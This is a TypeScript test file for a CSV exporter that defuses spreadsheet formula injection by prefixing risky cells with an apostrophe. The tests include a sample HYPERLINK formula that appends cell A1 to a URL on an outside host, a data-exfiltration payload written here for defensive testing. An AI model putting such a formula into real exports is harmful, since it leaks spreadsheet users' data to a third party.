import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/lib/csv.ts';
import { columnsOf, recordsToCsv } from '../../src/lib/open-data/csv-columns.ts';
import { tableToCsv } from '../../src/lib/table-model.ts';

/** What a program reading the file gets: rows of strings, the BOM dropped. */
const readBack = (csv: string) => parse(csv, { bom: true, relax_column_count: true }) as string[][];

describe('CSV: cells a spreadsheet would run as a formula', () => {
  const starts = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'];

  it.each(starts.map((c) => [JSON.stringify(c), c]))('a text cell starting with %s reads back with a leading apostrophe', (_, c) => {
    const text = `${c}HYPERLINK("https://example.org/?d="&A1, "x")`;
    const [row] = readBack(toCsv([[text, 'plain']]));
    expect(row).toEqual([`'${text}`, 'plain']);
  });

  it('numbers stay numbers, negative ones included; text that looks like a negative number does not', () => {
    const csv = toCsv([[-8.6, 0, 1200000, -0.5, 12.25, '-5 % turnout', '-8.6']]);
    expect(csv).toBe("\uFEFF-8.6,0,1200000,-0.5,12.25,'-5 % turnout,'-8.6\r\n");
  });

  it('text with those characters later on, or an apostrophe already, is left as it is', () => {
    const texts = ['a=b', 'Budget -5 %', 'info@example.org', '1+1', 'e-petitions', "'=already", ' =space first', ''];
    expect(readBack(toCsv([texts]))).toEqual([texts]);
  });

  it('quotes commas, double quotes and line breaks (RFC 4180), also in a neutralised cell, and reads back exactly', () => {
    const rows = [
      ['name', 'note'],
      ['A, B', 'say "hi"'],
      ['two\nlines', 'cr\ronly'],
      ['=1+2";=1+2', '-x, "y"\r\nz'],
    ];
    const csv = toCsv(rows);
    expect(csv).toBe('\uFEFFname,note\r\n"A, B","say ""hi"""\r\n"two\nlines","cr\ronly"\r\n"\'=1+2"";=1+2","\'-x, ""y""\r\nz"\r\n');
    expect(readBack(csv)).toEqual([rows[0], rows[1], rows[2], ["'=1+2\";=1+2", "'-x, \"y\"\r\nz"]]);
  });
});

describe('CSV of records and tables', () => {
  const record = {
    id: 'p',
    title: '-5 % turnout',
    institution: '@City',
    stakeholders: ['=Partner', 'Other'],
    sources: [{ title: 'Report', url: 'https://example.org/r' }, { title: '+Annex', url: 'https://example.org/a' }],
    coordinates: [41.15, -8.61],
    resources: { budget: { amount: 500000 } },
    indicators: [{ label: '-Change', value: -3.5 }],
    changes: [-1, 2],
  };
  const schema = {
    type: 'object',
    properties: {
      id: { type: 'string' },
      title: { type: 'string' },
      institution: { type: 'string' },
      stakeholders: { type: 'array', items: { type: 'string' } },
      sources: { type: 'array', items: { type: 'object', properties: { title: { type: 'string' }, url: { type: 'string' } } } },
      coordinates: { type: 'array', prefixItems: [{ type: 'number' }, { type: 'number' }] },
      resources: { type: 'object', properties: { budget: { type: 'object', properties: { amount: { type: 'number' } } } } },
      indicators: { type: 'array', items: { type: 'object', properties: { label: { type: 'string' }, value: { type: 'number' } } } },
      changes: { type: 'array', items: { type: 'number' } },
    },
  };

  it('recordsToCsv neutralises text fields and lists that start with text, and keeps numbers as numbers', () => {
    const [header, row] = parse(recordsToCsv([record], columnsOf(schema)), { bom: true }) as string[][];
    const cells = Object.fromEntries(header!.map((name, i) => [name, row![i]]));
    expect(cells).toEqual({
      id: 'p',
      title: "'-5 % turnout",
      institution: "'@City",
      stakeholders: "'=Partner; Other",
      'sources.title': 'Report; +Annex',
      'sources.url': 'https://example.org/r; https://example.org/a',
      'coordinates.latitude': '41.15',
      'coordinates.longitude': '-8.61',
      'resources.budget.amount': '500000',
      'indicators.label': "'-Change",
      'indicators.value': '-3.5',
      // Two numbers joined are text, not a number a spreadsheet could read: neutralised like any text.
      changes: "'-1; 2",
    });
  });

  it('tableToCsv writes a count as a number and text with a numeric sort key as text', () => {
    const csv = tableToCsv({
      id: 't', caption: 'c',
      columns: [{ label: 'Practice' }, { label: '=Theme name' }, { label: 'Change', numeric: true }, { label: 'Count', numeric: true }],
      rows: [[{ text: '@Practice', href: 'practices/p/' }, { text: '-5 % turnout', sort: -5 }, { text: '-2', sort: -2 }, { text: '3', sort: 3 }]],
    });
    expect(csv).toBe("\uFEFFPractice,'=Theme name,Change,Count\r\n'@Practice,'-5 % turnout,-2,3\r\n");
  });
});
